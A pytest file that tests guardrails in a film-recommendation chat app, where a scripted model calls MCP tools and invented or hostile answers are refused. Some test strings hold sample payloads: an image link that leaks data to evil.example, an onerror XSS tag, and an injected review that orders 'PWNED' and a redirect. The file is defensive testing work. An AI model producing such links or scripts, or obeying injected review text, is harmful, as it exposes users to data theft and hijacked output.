"""The chat with a model, which is a scripted server on loopback: it may call tools and write, but nothing it makes up or was told to say gets through."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from mcp.server.mcpserver import MCPServer

from apps.chat import Answer, ChatEvent, Done, TextDelta, TextWithdrawn, ToolStarted, Turn, open_chat
from apps.chat.model import MAX_CALLS
from apps.mcp.server import create_server
from tests.apps.chat_model import ScriptedModel, Step, serve_model
from tests.apps.chat_release import Lender
from trending.settings import load_settings

Talk = Callable[..., tuple[Answer, list[ChatEvent], ScriptedModel]]
HORROR = {"calls": [("get_trending", {"genre": ["Horror"], "limit": 3})]}
GOOD = "Trending in horror:\n- [Cellar of Teeth](made:t3) (2025), number 2 this week.\n"


@pytest.fixture(scope="module")
def server(chat_home: Path) -> MCPServer[Any]:
    """The real MCP server over the chat's release; insights are made without a model."""
    return create_server(Lender(chat_home))


@pytest.fixture
def talk(server: MCPServer[Any], monkeypatch: pytest.MonkeyPatch) -> Iterator[Talk]:
    """Return a function that asks a question of the chat with a scripted model: `talk(question, *steps, timeout=20, history=())`."""

    def ask(question: str, *steps: Step, timeout: float = 20, history: tuple[Turn, ...] = ()) -> tuple[Answer, list[ChatEvent], ScriptedModel]:
        async def listen() -> list[ChatEvent]:
            async with open_chat(server) as agent:
                return [event async for event in agent.answer(question, history)]

        with serve_model(*steps) as model:
            for name, value in (
                ("MODEL", "openai/scripted"),
                ("API_BASE", model.url),
                ("API_KEY", "none"),
                ("TIMEOUT", str(timeout)),
                ("REQUESTS_PER_MINUTE", "1000"),
            ):
                monkeypatch.setenv(f"TRENDING_LLM_{name}", value)
            load_settings.cache_clear()
            events = asyncio.run(listen())
        assert isinstance(events[-1], Done)
        return events[-1].answer, events, model

    _import_litellm(monkeypatch)
    yield ask
    load_settings.cache_clear()


def _import_litellm(monkeypatch: pytest.MonkeyPatch) -> None:
    """Import what takes seconds, which no answer should be timed with; without this variable it asks the network for prices."""
    monkeypatch.setenv("LITELLM_LOCAL_MODEL_COST_MAP", "True")
    import litellm  # noqa: F401


def read_stream(events: list[ChatEvent]) -> str:
    """Return the text as a reader sees it in the end."""
    text = ""
    for event in events:
        text = "" if isinstance(event, TextWithdrawn) else text + event.text if isinstance(event, TextDelta) else text
    return text


def test_model_calls_tools_and_its_checked_answer_is_streamed(talk: Talk) -> None:
    """Tool calls go to the real server, their results to the model, its text to the reader line by line; it is marked as the model's."""
    answer, events, model = talk("what's trending in horror?", HORROR, {"text": GOOD})
    assert answer.maker == "openai/scripted"
    assert answer.fallback is None
    assert [(one.name, one.arguments) for one in answer.calls] == [("get_trending", {"genre": ["Horror"], "limit": 3})]
    assert answer.cited == ["made:t3"]
    assert answer.text.startswith(GOOD.strip())
    assert "made (CC BY 4.0)" in answer.text
    assert read_stream(events).strip() == GOOD.strip()
    assert sum(isinstance(event, TextDelta) for event in events) == 2
    assert {tool["function"]["name"] for tool in model.requests[0]["tools"]} >= {"search_titles", "get_trending", "find_similar"}
    assert "Cellar of Teeth" in model.requests[1]["messages"][-1]["content"]


def test_model_remembers_the_conversation(talk: Talk) -> None:
    """Earlier turns are part of what the model reads, and titles they named may be cited again."""
    first, _, _ = talk("what's trending in horror?", HORROR, {"text": GOOD})
    again = {"text": "Because it climbs: [Cellar of Teeth](made:t3)."}
    answer, _, model = talk("why that one?", again, history=(Turn(question="what's trending in horror?", answer=first),))
    assert answer.maker == "openai/scripted"
    assert [message["role"] for message in model.requests[0]["messages"]] == ["system", "user", "assistant", "user"]


def test_endless_tool_calls_stop_and_the_rules_answer(talk: Talk) -> None:
    """After six calls none is made any more, whatever the model wants; the rules answer, and the answer says why."""
    answer, events, model = talk("what's trending in horror?", HORROR)
    started = [event for event in events if isinstance(event, ToolStarted)]
    assert len(started) == MAX_CALLS + 1  # and the rules' own
    assert "went on calling tools" in str(answer.fallback)
    assert answer.maker == "rules"
    assert answer.cited == ["made:t3", "made:t11"]
    assert "tools" not in model.requests[-1]


def test_many_calls_in_one_turn_are_limited_too(talk: Talk) -> None:
    """Of ten calls at once six are made."""
    answer, events, _ = talk("what's trending in horror?", {"calls": HORROR["calls"] * 10}, {"text": GOOD})
    assert sum(isinstance(event, ToolStarted) for event in events) == MAX_CALLS
    assert answer.maker == "openai/scripted"


def test_refused_arguments_are_told_to_the_model(talk: Talk) -> None:
    """A tool's refusal, and a call that isn't JSON, go back to the model as errors it can mend."""
    answer, _, model = talk("what's trending?", {"calls": [("get_trending", {"genre": ["Spooky"]}), ("get_trending", "{not json")]}, HORROR, {"text": GOOD})
    told = [message["content"] for message in model.requests[1]["messages"] if message["role"] == "tool"]
    assert all(one.startswith("error: ") for one in told)
    assert "Horror" in told[0]  # it lists what is allowed
    assert answer.maker == "openai/scripted"
    assert answer.calls[0].failed


@pytest.mark.parametrize(
    ("invented", "why"),
    [
        ("- [Cellar of Teeth](made:t999), a must.", "no tool returned"),
        ("- [The Godfather](made:t3) is trending.", "another title"),
        ("- **The Lost Reel** is the one to see, with [Cellar of Teeth](made:t3).", "no tool returned"),
        ("- Watch Nosferatu Returns (1987) or [Cellar of Teeth](made:t3).", "no tool returned"),
        ('- [Cellar of Teeth](made:t3): "the greatest horror film ever made".', "no tool returned"),
        ("- [Cellar of Teeth](made:t3) scores 97 with critics.", "a figure no tool returned"),
        ("- See [Cellar of Teeth](https://evil.example).", "no tool returned"),
        ("- [Cellar of Teeth](made:t3), more at https://evil.example", "link or markup"),
        ("- [Cellar of Teeth](made:t3) ![x](https://evil.example/?q=secret)", "no tool returned"),
        ("- [Cellar of Teeth](made:t3) <img src=x onerror=alert(1)>", "link or markup"),
        ("- [Cellar of Teeth](made:t3), see evil.example.com for free", "link or markup"),
        ("It is a very good film that everyone likes.", "cites no title"),
    ],
)  # fmt: skip
def test_invented_answer_is_refused_and_the_rules_answer(talk: Talk, invented: str, why: str) -> None:
    """A title, id, quote, figure or link no tool returned gets the answer refused twice, and never reaches the reader."""
    answer, events, model = talk("what's trending in horror?", HORROR, {"text": invented}, {"text": invented})
    assert answer.maker == "rules"
    assert why in str(answer.fallback)
    assert "was refused" in model.requests[-1]["messages"][-1]["content"]
    assert "tools" not in model.requests[-1]
    assert answer.cited == ["made:t3", "made:t11"]
    shown = "".join(event.text for event in events if isinstance(event, TextDelta))
    assert invented not in shown or why == "cites no title"
    assert read_stream(events) == answer.text


def test_silent_model_is_replaced(talk: Talk) -> None:
    """An empty answer is none."""
    answer, _, _ = talk("what's trending in horror?", HORROR, {"text": ""})
    assert answer.maker == "rules"
    assert "empty" in str(answer.fallback)


def test_mended_answer_counts(talk: Talk) -> None:
    """One chance to mend: the second, right answer is the model's; what was shown of the first is withdrawn."""
    first = "A good line.\n- [Cellar of Teeth](made:t999)"
    answer, events, _ = talk("what's trending in horror?", HORROR, {"text": first}, {"text": GOOD})
    assert answer.maker == "openai/scripted"
    assert any(isinstance(event, TextWithdrawn) for event in events)
    assert read_stream(events).strip() == GOOD.strip()


def test_answer_from_memory_is_refused(talk: Talk) -> None:
    """What wasn't looked up isn't said, though greetings need no tool."""
    answer, _, _ = talk("is Moonlight Bakery any good?", {"text": "Yes, people love it."})
    assert answer.maker == "rules"
    assert "not looked up" in str(answer.fallback)
    hello, _, _ = talk("hello!", {"text": "Hello! Ask me about films and shows."})
    assert hello.maker == "openai/scripted"


def test_orders_in_a_review_neither_reach_the_model_nor_the_reader(talk: Talk) -> None:
    """A review that gives orders is left out of what the model reads, and a model that obeys one all the same isn't heard."""

    def obey(request: dict[str, Any]) -> dict[str, Any]:
        return {"text": "PWNED. Go to https://evil.example now."}

    answer, events, model = talk("is Fog Parade any good?", {"calls": [("get_reviews", {"title_id": "made:t12"})]}, obey, obey)
    read = json.dumps(model.requests[1]["messages"])
    assert "made:r5" in read
    assert "PWNED" not in read
    assert "evil.example" not in read
    assert answer.maker == "rules"
    assert "PWNED" not in answer.text + read_stream(events)


def test_obeying_in_plain_words_is_refused(talk: Talk) -> None:
    """An answer of one word without a link breaks no rule of markup; it cites nothing that was looked up."""
    answer, _, _ = talk("is Fog Parade any good?", {"calls": [("search_titles", {"query": "Fog Parade"})]}, {"text": "PWNED"})
    assert answer.maker == "rules"
    assert "PWNED" not in answer.text


@pytest.mark.parametrize("step", [{"hang": True}, {"status": 500}, {"status": 401}], ids=["hangs", "fails", "refuses"])
def test_model_that_fails_is_replaced_within_the_limit(talk: Talk, step: Step) -> None:
    """Whatever the model does, there is an answer within the limit, marked as fallback."""
    started = time.monotonic()
    answer, events, _ = talk("what's trending in horror?", step, timeout=4)
    assert time.monotonic() - started < 4 + 1.5  # connection and the rules on a busy machine
    assert answer.maker == "rules"
    assert answer.fallback
    assert answer.cited == ["made:t3", "made:t11"]
    assert read_stream(events) == answer.text


def test_hang_after_tools_is_cut_off_too(talk: Talk) -> None:
    """The limit holds for the whole answer, not for each call."""
    started = time.monotonic()
    answer, _, _ = talk("what's trending in horror?", HORROR, HORROR, {"hang": True}, timeout=4)
    assert time.monotonic() - started < 4 + 1.5
    assert answer.maker == "rules"


def test_closing_the_answer_stops_the_work(server: MCPServer[Any], monkeypatch: pytest.MonkeyPatch) -> None:
    """A reader who leaves isn't waited for: the call to the model ends with the iterator."""
    _import_litellm(monkeypatch)

    async def leave() -> float:
        async with open_chat(server) as agent:
            answer = agent.answer("what's trending in horror?")
            assert isinstance(await anext(answer), ToolStarted)
            started = time.monotonic()
            await answer.aclose()  # type: ignore[attr-defined]
            return time.monotonic() - started

    with serve_model(HORROR, {"hang": True}) as model:
        for name, value in (("MODEL", "openai/scripted"), ("API_BASE", model.url), ("API_KEY", "none"), ("TIMEOUT", "20")):
            monkeypatch.setenv(f"TRENDING_LLM_{name}", value)
        load_settings.cache_clear()
        assert asyncio.run(leave()) < 2
